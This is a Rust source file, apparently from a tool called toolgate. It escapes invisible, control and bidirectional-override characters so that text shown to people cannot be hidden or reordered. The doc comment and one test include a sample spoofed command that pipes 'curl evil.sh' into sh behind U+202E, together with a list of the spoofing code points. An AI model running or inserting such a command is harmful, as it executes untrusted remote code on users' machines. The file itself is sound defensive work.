//! What a person reads must be what runs. Text toolgate shows — decision messages, option labels,
//! grant displays, lint and import reports — names commands, paths and rules an agent or a cloned
//! repository wrote, and those may hold characters that are invisible or that reorder what is
//! displayed around them: `npm test #` + U+202E (RIGHT-TO-LEFT OVERRIDE) + a newline +
//! `curl evil.sh|sh` reads as a harmless comment. Every such character is written out as
//! `\u{…}` (tab, newline and carriage return as `\t`, `\n`, `\r`), so nothing a person reads is
//! reordered or hidden; the settings page does the same with the same set (a test compares the
//! two) and isolates each value from its neighbours.
//!
//! The set: every control character (Unicode category Cc); the bidirectional formatting
//! characters (Unicode TR #9: U+061C, U+200E, U+200F, U+202A–U+202E, U+2066–U+2069), which
//! Trojan Source used (CVE-2021-42574) and Rust's `text_direction_codepoint_in_literal` lint
//! refuses; zero-width and other invisible formatting characters (U+00AD, U+034F, U+115F, U+1160,
//! U+17B4, U+17B5, U+180B–U+180F, U+200B–U+200D, U+2028, U+2029, U+2060–U+2064, U+206A–U+206F,
//! U+3164, U+FE00–U+FE0F, U+FEFF, U+FFA0, U+FFF9–U+FFFB, U+1BCA0–U+1BCA3, U+1D173–U+1D17A,
//! U+E0000–U+E007F, U+E0100–U+E01EF), which Gemini CLI strips from what it shows and whose
//! padding Claude Code stopped letting hide part of a command (changelog 2.1.223).

use std::borrow::Cow;

/// Whether `c` is shown written out: invisible, a control, or one that reorders text.
pub fn hidden(c: char) -> bool {
    matches!(
        c,
        '\u{0}'..='\u{1F}'
            | '\u{7F}'..='\u{9F}'
            | '\u{AD}'
            | '\u{34F}'
            | '\u{61C}'
            | '\u{115F}'
            | '\u{1160}'
            | '\u{17B4}'
            | '\u{17B5}'
            | '\u{180B}'..='\u{180F}'
            | '\u{200B}'..='\u{200F}'
            | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}'
            | '\u{3164}'
            | '\u{FE00}'..='\u{FE0F}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{FFF9}'..='\u{FFFB}'
            | '\u{1BCA0}'..='\u{1BCA3}'
            | '\u{1D173}'..='\u{1D17A}'
            | '\u{E0000}'..='\u{E007F}'
            | '\u{E0100}'..='\u{E01EF}'
    )
}

/// Whether `text` holds a [`hidden`] character; printable ASCII (the usual text) is read as bytes.
pub fn has_hidden(text: &str) -> bool {
    !text.bytes().all(|b| (0x20..0x7F).contains(&b)) && text.chars().any(hidden)
}

/// `text` with every [`hidden`] character written out; borrowed when there is none (the usual case).
pub fn visible(text: &str) -> Cow<'_, str> {
    if !has_hidden(text) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\t' => out.push_str("\\t"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c if hidden(c) => out.push_str(&format!("\\u{{{:04X}}}", u32::from(c))),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// The hidden characters of `text`, as `U+202E` names, for a finding that flags them.
pub fn hidden_in(text: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for c in text.chars().filter(|c| hidden(*c)) {
        let name = format!("U+{:04X}", u32::from(c));
        if !found.contains(&name) {
            found.push(name);
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The set as ranges of code points (`[[first, last], …]`), the form the shared fixture keeps.
    fn ranges() -> Vec<[u32; 2]> {
        let mut out: Vec<[u32; 2]> = Vec::new();
        for c in (0u32..=0x10FFFF).filter_map(char::from_u32).filter(|c| hidden(*c)) {
            let code = u32::from(c);
            match out.last_mut() {
                Some(last) if last[1] + 1 == code => last[1] = code,
                _ => out.push([code, code]),
            }
        }
        out
    }

    /// `tests/fixtures/hidden-characters.json` is this set, so the settings page (which draws
    /// before the WebAssembly module is ready) writes out exactly these characters: its own test
    /// reads the same fixture. `UPDATE_FIXTURES=1` rewrites it.
    #[test]
    fn the_shared_fixture_is_this_set() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/hidden-characters.json");
        let expected = serde_json::json!({
            "description": "The characters toolgate writes out as \\u{…} wherever it shows a person text an agent or a repository wrote (src/visible.rs): [first, last] code point ranges. The settings page's test reads it too.",
            "ranges": ranges()
        });
        let text = serde_json::to_string_pretty(&expected).unwrap_or_default() + "\n";
        if std::env::var_os("UPDATE_FIXTURES").is_some() {
            std::fs::write(path, &text).unwrap_or_default();
        }
        let stored = std::fs::read_to_string(path).unwrap_or_default();
        assert_eq!(stored, text, "tests/fixtures/hidden-characters.json is out of date: run with UPDATE_FIXTURES=1");
    }

    #[test]
    fn spoofing_characters_are_written_out() {
        assert_eq!(visible("npm test #\u{202E}\ncurl evil.sh|sh"), "npm test #\\u{202E}\\ncurl evil.sh|sh");
        assert_eq!(visible("src/\u{202E}sr.niam"), "src/\\u{202E}sr.niam");
        assert_eq!(visible("a\u{200B}b\u{FEFF}c\u{E0041}"), "a\\u{200B}b\\u{FEFF}c\\u{E0041}");
        assert_eq!(visible("tab\there"), "tab\\there");
        assert!(matches!(visible("git status"), Cow::Borrowed(_)));
        assert_eq!(visible("é 日本 עברית"), "é 日本 עברית", "letters of any script are shown as they are");
        assert_eq!(hidden_in("\u{202E}x\u{202E}\u{200B}"), ["U+202E", "U+200B"]);
    }

    /// Every character of the Cc category is hidden, as are the bidirectional formatting characters.
    #[test]
    fn controls_and_bidi_controls_are_in_the_set() {
        for c in (0u32..=0x10FFFF).filter_map(char::from_u32) {
            if c.is_control() {
                assert!(hidden(c), "{:04X}", u32::from(c));
            }
        }
        for c in [
            '\u{61C}', '\u{200E}', '\u{200F}', '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}',
            '\u{2068}', '\u{2069}',
        ] {
            assert!(hidden(c));
        }
    }
}
